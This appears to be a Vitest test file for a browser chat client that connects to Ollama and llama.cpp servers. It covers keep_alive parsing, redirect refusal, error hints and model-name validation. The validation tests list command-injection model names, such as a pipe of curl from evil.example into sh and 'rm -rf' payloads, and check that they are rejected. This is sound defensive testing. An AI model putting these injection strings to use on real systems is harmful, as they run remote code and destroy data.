// What real servers do that the first test server hid (issue 12), and what a hostile server may
// try (issue 11): redirects, names that are commands, duplicates. Pure functions and the providers
// over a stubbed fetch.
import { afterEach, describe, expect, it, vi } from 'vitest';
import {
  contextMeter,
  estimatePromptTokens,
  estimateTokens,
  serverDroppedStart,
} from '../../../src/lib/contextBudget';
import { optionFieldsFor } from '../../../src/lib/chat/optionFields';
import { errorText } from '../../../src/lib/i18n/errors';
import { parseKeepAlive, toOllamaKeepAlive } from '../../../src/lib/keepAlive';
import { ollamaChatBody } from '../../../src/lib/providers/ollama';
import {
  dedupeModels,
  displayModelName,
  isOllamaModelName,
  isShortenedModelName,
} from '../../../src/lib/providers/models';
import { toServerProps } from '../../../src/lib/providers/openai';
import { localNetworkPermission, type PageInfo } from '../../../src/lib/providers/page';
import type { ProviderError } from '../../../src/lib/providers/errors';
import { classifyStatus } from '../../../src/lib/providers/status';
import {
  answerOf,
  body,
  CHROME_UA,
  httpPage,
  json,
  never,
  provider,
  settle,
  sseResponse,
  stubFetch,
} from './helpers';

afterEach(() => {
  vi.unstubAllGlobals();
  vi.useRealTimers();
});

describe('keep_alive: what the user types, as Ollama accepts it', () => {
  it('turns a bare number into seconds and keeps Go durations as they are', () => {
    expect(parseKeepAlive('-1')).toEqual({ ok: true, value: -1 });
    expect(parseKeepAlive('3600')).toEqual({ ok: true, value: 3600 });
    expect(parseKeepAlive(' 0 ')).toEqual({ ok: true, value: 0 });
    expect(parseKeepAlive('5m')).toEqual({ ok: true, value: '5m' });
    expect(parseKeepAlive('1h30m')).toEqual({ ok: true, value: '1h30m' });
    expect(parseKeepAlive('-1m')).toEqual({ ok: true, value: '-1m' });
    expect(parseKeepAlive('5M')).toEqual({ ok: true, value: '5m' });
    expect(parseKeepAlive('')).toEqual({ ok: true, value: undefined });
  });

  it('refuses what Ollama would answer with 400, saying how to write it', () => {
    const days = parseKeepAlive('1d');
    expect(days.ok).toBe(false);
    expect(!days.ok && days.message).toMatch(/24h/);
    const weeks = parseKeepAlive('2w');
    expect(!weeks.ok && weeks.message).toMatch(/unit “w”/);
    const junk = parseKeepAlive('forever and ever');
    expect(!junk.ok && junk.message).toMatch(/number of seconds/);
  });

  it('the chat body carries a value Ollama accepts, even for an old stored "-1"', () => {
    const req = { model: 'llama3.2', messages: [{ role: 'user' as const, content: 'hi' }] };
    expect(ollamaChatBody({ ...req, keepAlive: '-1' }, true).keep_alive).toBe(-1);
    expect(ollamaChatBody({ ...req, keepAlive: '10m' }, true).keep_alive).toBe('10m');
    expect(ollamaChatBody({ ...req, keepAlive: 300 }, true).keep_alive).toBe(300);
    expect('keep_alive' in ollamaChatBody(req, true)).toBe(false);
    expect(() => ollamaChatBody({ ...req, keepAlive: '1d' }, true)).toThrow(/keep_alive/);
    expect(toOllamaKeepAlive(Number.NaN).ok).toBe(false);
  });

  it('a keep_alive that cannot be sent fails before any request, with the message kept', async () => {
    const calls = stubFetch(() => json({}));
    const { error } = await settle(
      provider('ollama').chat({ model: 'm', messages: [{ role: 'user', content: 'q' }], keepAlive: '1d' }),
    );
    expect(calls).toHaveLength(0);
    expect(error).toMatchObject({ kind: 'config', title: 'keep_alive cannot be sent as it is' });
    expect((error as Error).message).toMatch(/your message is kept/);
  });
});

describe('context: what is sent, and whether the server dropped its start', () => {
  it('estimates English at about four characters a token and CJK at one a character', () => {
    expect(estimateTokens('x'.repeat(400))).toBe(100);
    expect(estimateTokens('汉字汉字')).toBe(4);
    expect(estimateTokens('')).toBe(0);
    const messages = [
      { role: 'system' as const, content: 'Be brief.' },
      { role: 'user' as const, content: 'x'.repeat(40), images: [{ base64: 'AA', mime: 'image/png' }] },
    ];
    expect(estimatePromptTokens(messages)).toBe(3 + (3 + 4) + (10 + 4 + 768));
  });

  it('flags a count evidently below what was sent, not estimation noise or short chats', () => {
    expect(serverDroppedStart({ sentEstimate: 6000, promptEvalCount: 3100, numCtx: 4096 })).toBe(true);
    expect(serverDroppedStart({ sentEstimate: 6000, promptEvalCount: 3100 })).toBe(true);
    // within ±25 % of the estimate: the tokenizer simply counts differently
    expect(serverDroppedStart({ sentEstimate: 3000, promptEvalCount: 2300, numCtx: 8192 })).toBe(false);
    // fits the window easily: Ollama drops nothing, whatever the count says
    expect(serverDroppedStart({ sentEstimate: 1000, promptEvalCount: 100, numCtx: 8192 })).toBe(false);
    expect(serverDroppedStart({ sentEstimate: 120, promptEvalCount: 10 })).toBe(false);
    expect(serverDroppedStart({ sentEstimate: 6000, promptEvalCount: undefined })).toBe(false);
  });

  it('the meter reads "used / limit tokens" and warns when an answer would not fit', () => {
    expect(contextMeter(1200, 2048)).toEqual({
      used: 1200,
      limit: 2048,
      fits: true,
      label: '1,200 / 2,048 tokens',
    });
    expect(contextMeter(2000, 2048).fits).toBe(false);
    expect(contextMeter(5000, 4096).fits).toBe(false);
  });
});

describe('model names from a server', () => {
  it('follow Ollama’s grammar before they go in a command', () => {
    for (const ok of [
      'llama3.2',
      'llama3.2:latest',
      'hf.co/bartowski/Llama-3.2-1B-GGUF:Q4_K_M',
      'library/qwen3:4b',
      'mistral:7b+Q4_0',
      'x/z-image-turbo',
    ]) {
      expect(isOllamaModelName(ok), ok).toBe(true);
    }
    for (const bad of [
      'llama3; curl -s http://evil.example/x | sh #',
      'llama3 && rm -rf ~',
      '$(id)',
      '`id`',
      'a b',
      'x.y/model',
      'a/b/c/d',
      'a..b',
      '',
      'm'.repeat(129),
      'llama3\nrm -rf /',
    ]) {
      expect(isOllamaModelName(bad), bad).toBe(false);
    }
  });

  it('a hostile name is shown as text with no command to paste', () => {
    const fix = errorText['model-not-found']({
      serverKind: 'ollama',
      model: 'llama3; curl -s http://x/y | sh #',
    });
    expect(fix.steps ?? []).toEqual([]);
    expect(fix.title).toContain('llama3; curl');
    const good = errorText['model-not-found']({ serverKind: 'ollama', model: 'llama3.2' });
    expect(good.steps?.[0]?.code).toBe('ollama pull llama3.2');
  });

  it('duplicates are listed once, in the server’s order, from /api/tags and /v1/models', async () => {
    expect(dedupeModels([{ name: 'a' }, { name: 'b' }, { name: 'a' }]).map((m) => m.name)).toEqual([
      'a',
      'b',
    ]);
    stubFetch((url) =>
      url.endsWith('/api/tags')
        ? json({
            models: [
              { name: 'a', capabilities: ['completion'] },
              { name: 'a', capabilities: ['completion'] },
            ],
          })
        : json({ data: [{ id: 'x' }, { id: 'x' }, { id: 'y' }] }),
    );
    expect((await provider('ollama').listModels()).map((m) => m.name)).toEqual(['a']);
    expect((await provider('openai').listModels()).map((m) => m.name)).toEqual(['x', 'y']);
  });

  it('a file-path id shows its file name; Ollama names stay whole', () => {
    expect(displayModelName('/models/Qwen3-8B-Q4_K_M.gguf')).toBe('Qwen3-8B-Q4_K_M.gguf');
    expect(displayModelName('C:\\models\\phi.gguf')).toBe('phi.gguf');
    expect(displayModelName('hf.co/user/model:Q4_K_M')).toBe('hf.co/user/model:Q4_K_M');
    expect(isShortenedModelName('/models/x.gguf')).toBe(true);
    expect(isShortenedModelName('llama3.2')).toBe(false);
  });

  it('/v1/models is fetched once for callers that ask at the same time', async () => {
    const calls = stubFetch(() => json({ data: [{ id: 'm1' }] }));
    const p = provider('openai');
    await Promise.all([p.version(), p.listModels(), p.modelDetails('m1')]);
    expect(calls.filter((c) => c.url.endsWith('/v1/models'))).toHaveLength(1);
  });

  it('/v1/models is fetched once when the health check follows the list, and again later', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      const calls = stubFetch(() => json({ data: [{ id: 'm1' }] }));
      const lists = () => calls.filter((c) => c.url.endsWith('/v1/models')).length;
      await provider('openai').listModels();
      await provider('openai').version();
      expect(lists()).toBe(1);
      vi.advanceTimersByTime(2500);
      await provider('openai').listModels();
      expect(lists()).toBe(2);
    } finally {
      vi.useRealTimers();
    }
  });
});

describe('redirects are reported, never followed', () => {
  it('every request goes out with redirect: "manual"', async () => {
    const calls = stubFetch(() => json({ version: '0.5.1' }));
    await provider('ollama').version();
    expect(calls[0]?.init.redirect).toBe('manual');
  });

  it('a browser’s opaque redirect, and a visible 307, become a "redirect" error', async () => {
    const opaque = Object.defineProperty(new Response(null, { status: 200 }), 'type', {
      value: 'opaqueredirect',
    });
    stubFetch(() => opaque);
    await expect(provider('ollama').version()).rejects.toMatchObject({
      kind: 'redirect',
      title: 'localhost:11434 sent this request to another address',
    });
    stubFetch(
      () => new Response(null, { status: 307, headers: { location: 'http://127.0.0.1:9/api/chat' } }),
    );
    const { error } = await settle(
      provider('ollama').chat({ model: 'm', messages: [{ role: 'user', content: 'q' }] }),
    );
    expect(error).toMatchObject({ kind: 'redirect' });
    expect((error as Error).message).toMatch(/did not follow it/);
  });

  it('a move to https on the same host is offered as the new base URL', async () => {
    stubFetch(
      () => new Response(null, { status: 301, headers: { location: 'https://localhost:11434/api/version' } }),
    );
    await expect(provider('ollama').version()).rejects.toMatchObject({
      kind: 'redirect',
      fix: { steps: [{ code: 'https://localhost:11434' }] },
    });
  });

  const opaque = () =>
    Object.defineProperty(new Response(null, { status: 200 }), 'type', { value: 'opaqueredirect' });

  it('a browser hides where it pointed: the same host over https is asked, with nothing of the user’s', async () => {
    const calls = stubFetch((url) =>
      url.startsWith('https://localhost:11434/') ? json({ version: '0.12.0' }) : opaque(),
    );
    const p = provider('ollama', { auth: { type: 'headers', headers: { 'X-Api-Key': 'k-secret' } } });
    await expect(p.version()).rejects.toMatchObject({
      kind: 'redirect',
      fix: { steps: [{ code: 'https://localhost:11434' }] },
    });
    expect(calls.map((c) => c.url)).toEqual([
      'http://localhost:11434/api/version',
      'https://localhost:11434/api/version',
    ]);
    const twin = calls[1]!;
    expect([...twin.headers.keys()]).toEqual([]);
    expect(twin.init).toMatchObject({ credentials: 'omit', redirect: 'manual' });
    expect(twin.body).toBeUndefined();
  });

  it('with no https on the same host (either port), nothing is offered', async () => {
    const calls = stubFetch((url) =>
      url.startsWith('https:') ? Promise.reject(new TypeError('Failed to fetch')) : opaque(),
    );
    const { error } = await settle(
      provider('ollama').chat({ model: 'm', messages: [{ role: 'user', content: 'q' }] }),
    );
    expect(error).toMatchObject({ kind: 'redirect' });
    expect((error as ProviderError).fix.steps?.some((s) => s.code)).toBe(false);
    expect(calls.map((c) => c.url)).toEqual([
      'http://localhost:11434/api/chat',
      'https://localhost:11434/api/version',
      'https://localhost/api/version',
    ]);
  });
});

describe('errors that name the right fix', () => {
  it('an empty 403 on the page’s own origin says to clear Origin in the proxy', async () => {
    const page: PageInfo = { origin: 'https://chat.example.edu', protocol: 'https:', userAgent: CHROME_UA };
    stubFetch(() => new Response('', { status: 403 }));
    const p = provider('ollama', { baseUrl: 'https://chat.example.edu/ollama' }, page);
    await expect(p.version()).rejects.toMatchObject({ kind: 'http' });
    const error = (await p.version().then(
      () => new Error('no error'),
      (e: unknown) => e,
    )) as Error;
    expect(error.message).toContain('proxy_set_header Origin ""');
    expect(error.message.indexOf('Origin')).toBeLessThan(error.message.indexOf('Host'));
  });

  it('401 with signin_url says "ollama signin", not "add a password"', () => {
    const verdict = classifyStatus(
      401,
      'application/json',
      '{"error":"unauthorized","signin_url":"https://ollama.com/connect?x"}',
    );
    expect(verdict).toMatchObject({ kind: 'auth', needsSignin: true });
    const fix = errorText.auth({ authType: 'none', needsSignin: true, model: 'gpt-oss:120b-cloud' });
    expect(fix.steps?.[0]?.code).toBe('ollama signin');
    expect(JSON.stringify(fix)).not.toMatch(/password in the server settings|ollama\.com\/connect/);
  });

  it('custom headers failing as CORS on Ollama say Ollama allows no custom headers', () => {
    const fix = errorText.cors({ serverKind: 'ollama', authType: 'headers', origin: 'https://x.github.io' });
    expect(fix.detail).toMatch(/OLLAMA_ORIGINS cannot change that/);
    expect(JSON.stringify(fix.steps)).not.toMatch(/systemctl/);
  });

  it('the CORS steps include Docker and Compose', () => {
    const fix = errorText.cors({ serverKind: 'ollama', authType: 'none', origin: 'https://x.github.io' });
    const codes = (fix.steps ?? []).map((s) => s.code ?? '').join('\n');
    expect(codes).toContain(
      'docker run -d --name ollama -p 11434:11434 -v ollama:/root/.ollama -e OLLAMA_ORIGINS=https://x.github.io ollama/ollama',
    );
    expect(codes).toContain('- OLLAMA_ORIGINS=https://x.github.io');
  });

  it('llama.cpp’s exceed_context_size_error is told with its counts', () => {
    const body = JSON.stringify({
      error: {
        code: 400,
        message: 'request (5000 tokens) exceeds the available context size (4096 tokens)',
        type: 'exceed_context_size_error',
        n_prompt_tokens: 5000,
        n_ctx: 4096,
      },
    });
    const verdict = classifyStatus(400, 'application/json', body);
    expect(verdict).toMatchObject({ kind: 'context-overflow', promptTokens: 5000, contextSize: 4096 });
    const fix = errorText['context-overflow']({
      serverKind: 'openai',
      promptTokens: 5000,
      contextSize: 4096,
    });
    expect(fix.title).toBe('The conversation does not fit the server’s context');
    expect(fix.detail).toMatch(/5,000 tokens.*4,096/);
    expect(fix.detail).toMatch(/--ctx-size/);
  });

  it('an image sent to a llama-server without a projector is explained', () => {
    const fix = errorText.server({
      serverText:
        'image input is not supported - hint: if this is unexpected, you may need to provide the mmproj',
    });
    expect(fix.title).toBe('This model cannot read images on this server');
    expect(fix.detail).toMatch(/--mmproj/);
  });

  it('TGI’s top_p rule and its CORS limit on Authorization are named', () => {
    expect(
      errorText.http({ status: 422, serverText: 'Input validation error: `top_p` must be > 0.0 and < 1.0' })
        .detail,
    ).toMatch(/below 1\.0/);
    const cors = errorText.cors({ serverKind: 'openai', authType: 'bearer', origin: 'https://x.github.io' });
    expect(JSON.stringify(cors.steps)).toMatch(/TGI.*Authorization/);
  });

  it('a Foundry Local port that stopped answering points to foundry service status', () => {
    const fix = errorText.unreachable({ serverKind: 'openai', host: '127.0.0.1', port: '5273' });
    expect(fix.steps?.some((s) => s.code === 'foundry service status')).toBe(true);
  });
});

describe('Ollama’s /v1 drops a mid-stream error', () => {
  it('a stream that ends with no finish_reason and no [DONE] "ended without finishing", naming the Ollama kind', async () => {
    const events = [
      'data: {"id":"c","object":"chat.completion.chunk","system_fingerprint":"fp_ollama","choices":[{"index":0,"delta":{"role":"assistant","content":"Hel"},"finish_reason":null}]}\n\n',
      'data: {"id":"c","object":"chat.completion.chunk","system_fingerprint":"fp_ollama","choices":[{"index":0,"delta":{"content":""},"finish_reason":null}]}\n\n',
    ];
    stubFetch(() => sseResponse(body(events).stream));
    const { items, error } = await settle(
      provider('openai').chat({ model: 'm', messages: [{ role: 'user', content: 'q' }] }),
    );
    expect(items).toEqual([{ type: 'content', text: 'Hel' }]);
    expect(error).toMatchObject({
      kind: 'bad-response',
      title: 'The server ended the answer without finishing',
    });
    expect((error as Error).message).toMatch(/set this server’s kind to “Ollama”/);
  });

  it('"length" without max_tokens means the context filled up; with max_tokens it is the limit', async () => {
    const events = (reason: string) => [
      'data: {"choices":[{"delta":{"content":"Hi"},"finish_reason":null}]}\n\n',
      `data: {"choices":[{"delta":{},"finish_reason":"${reason}"}]}\n\n`,
      'data: [DONE]\n\n',
    ];
    stubFetch(() => sseResponse(body(events('length')).stream));
    const open = await answerOf(
      provider('openai').chat({ model: 'm', messages: [{ role: 'user', content: 'q' }] }),
    );
    expect(open.stats).toMatchObject({ doneReason: 'context_full' });
    stubFetch(() => sseResponse(body(events('length')).stream));
    const limited = await answerOf(
      provider('openai').chat({
        model: 'm',
        messages: [{ role: 'user', content: 'q' }],
        options: { num_predict: 5 },
      }),
    );
    expect(limited.stats).toMatchObject({ doneReason: 'length' });
  });
});

describe('stream off and slow servers', () => {
  it('a non-streamed answer is waited for past the first-byte time-out', async () => {
    vi.useFakeTimers();
    let answer: ((r: Response) => void) | undefined;
    stubFetch((_url, init) =>
      init.body && String(init.body).includes('"stream":false')
        ? new Promise<Response>((resolve) => (answer = resolve))
        : never(init),
    );
    const p = provider('ollama', { connectTimeoutMs: 1000, firstByteTimeoutMs: 2000 });
    const done = answerOf(p.chat({ model: 'm', messages: [{ role: 'user', content: 'q' }], stream: false }));
    await vi.advanceTimersByTimeAsync(10 * 60_000);
    answer?.(json({ message: { role: 'assistant', content: 'slow but sure' }, done: true, eval_count: 3 }));
    expect((await done).content).toBe('slow but sure');
  });
});

describe('llama-server’s /props', () => {
  const props = {
    default_generation_settings: {
      n_ctx: 8192,
      params: {
        temperature: 0.8,
        top_k: 40,
        top_p: 0.949999988079071,
        min_p: 0.05000000074505806,
        repeat_penalty: 1,
      },
    },
    model_path: '/models/gemma-3-4b-it-Q4_K_M.gguf',
    modalities: { vision: true, audio: false },
  };

  it('is read for vision, context and the server’s own defaults', () => {
    expect(toServerProps(props)).toEqual({
      flavor: 'llama.cpp',
      vision: true,
      contextSize: 8192,
      defaults: {
        temperature: 0.8,
        top_k: 40,
        top_p: 0.949999988079071,
        min_p: 0.05000000074505806,
        repeat_penalty: 1,
      },
      modelPath: '/models/gemma-3-4b-it-Q4_K_M.gguf',
    });
    expect(toServerProps({ data: [] })).toBeUndefined();
  });

  it('shows top_k, min_p and repeat_penalty with llama-server’s placeholders, not Ollama’s', () => {
    const set = optionFieldsFor('openai', toServerProps(props));
    const byName = Object.fromEntries(set.fields.map((f) => [f.name, f.placeholder]));
    expect(byName).toEqual({
      temperature: '0.8',
      top_p: '0.95',
      top_k: '40',
      min_p: '0.05',
      repeat_penalty: '1.0',
      num_predict: '-1',
      seed: 'random',
    });
    expect(set.hidden.has('num_ctx')).toBe(true);
    const plain = optionFieldsFor('openai');
    expect(plain.fields.map((f) => f.name)).toEqual(['temperature', 'top_p', 'num_predict', 'seed']);
    expect(plain.fields[0]?.placeholder).toBe('server default');
    expect(plain.note).toMatch(/1\.0 for both/);
    expect(optionFieldsFor('ollama').fields.find((f) => f.name === 'top_p')?.placeholder).toBe('0.9');
  });

  it('a model on a llama-server with a projector can see; without /props nothing is claimed', async () => {
    stubFetch((url) => (url.endsWith('/props') ? json(props) : json({ data: [{ id: 'g' }] })));
    expect(await provider('openai').modelDetails('g')).toMatchObject({
      capabilities: ['completion', 'vision'],
      contextLength: 8192,
    });
    stubFetch((url) =>
      url.endsWith('/props') ? json({ error: 'not found' }, 404) : json({ data: [{ id: 'g' }] }),
    );
    expect(await provider('openai').modelDetails('g')).toMatchObject({ capabilitiesGuessed: true });
  });
});

describe('Chrome’s Local Network Access', () => {
  const page = (states: Record<string, string>): PageInfo => ({
    origin: 'https://someone.github.io',
    protocol: 'https:',
    userAgent: CHROME_UA,
    queryPermission: (name) =>
      name in states ? Promise.resolve(states[name] as string) : Promise.reject(new TypeError(name)),
  });

  it('asks the newer permission names first, then the older one', async () => {
    expect(
      await localNetworkPermission('http://localhost:11434', page({ 'loopback-network': 'denied' })),
    ).toBe('denied');
    expect(
      await localNetworkPermission('http://192.168.1.5:11434', page({ 'local-network': 'prompt' })),
    ).toBe('prompt');
    expect(
      await localNetworkPermission('http://localhost:11434', page({ 'local-network-access': 'granted' })),
    ).toBe('granted');
    expect(await localNetworkPermission('http://localhost:11434', page({}))).toBeUndefined();
    expect(
      await localNetworkPermission('https://ollama.example.com', page({ 'local-network': 'denied' })),
    ).toBeUndefined();
    expect(
      await localNetworkPermission('http://localhost:11434', {
        ...httpPage,
        queryPermission: () => Promise.resolve('denied'),
      }),
    ).toBeUndefined();
  });

  it('a blocked permission is told apart from a server that is down', async () => {
    stubFetch(() => Promise.reject(new TypeError('Failed to fetch')));
    const p = provider('ollama', {}, page({ 'loopback-network': 'denied' }));
    await expect(p.version()).rejects.toMatchObject({
      kind: 'unreachable',
      title: 'Chrome did not let this page reach localhost:11434',
    });
    const down = provider('ollama', {}, page({ 'loopback-network': 'granted' }));
    await expect(down.version()).rejects.toMatchObject({ title: 'Cannot reach localhost:11434' });
  });
});
